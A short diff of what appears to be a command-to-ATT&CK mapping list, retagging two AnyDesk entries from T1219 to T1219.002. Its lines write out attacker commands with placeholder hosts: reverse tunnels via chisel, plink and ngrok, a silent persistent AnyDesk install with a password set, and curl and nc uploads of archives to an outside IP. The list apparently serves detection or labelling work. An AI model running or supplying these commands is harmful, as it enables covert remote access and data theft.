@@ -177,9 +177,9 @@ ac-chisel-client-8080 bash +T1572: chisel client ‹ip›:8080 R:socks
 ac-plink-ssh-r cmd +T1572: plink.exe -ssh -R ‹port›:127.0.0.1:3389 ‹user›@‹ip› -pw ‹pass›
 ac-ngrok-tcp-3389 cmd +T1572: ngrok.exe tcp 3389
 ac-chisel-client-http cmd +T1572: chisel.exe client http://‹ip›:8080 R:1080:socks
-# T1219
-ac-anydesk-install-programdata cmd +T1219: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
-ac-echo-programdata-anydesk cmd +T1219: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
+# T1219.002
+ac-anydesk-install-programdata cmd +T1219.002: AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent
+ac-echo-programdata-anydesk cmd +T1219.002: echo ‹pass› | C:\ProgramData\AnyDesk.exe --set-password
 # T1048.003
 ac-curl-t-tmp bash +T1048.003: curl -T /tmp/‹name›.tgz ftp://‹ip›/
 ac-nc-w-3 bash +T1048.003: nc -w 3 ‹ip› ‹port› < /tmp/‹name›.tgz
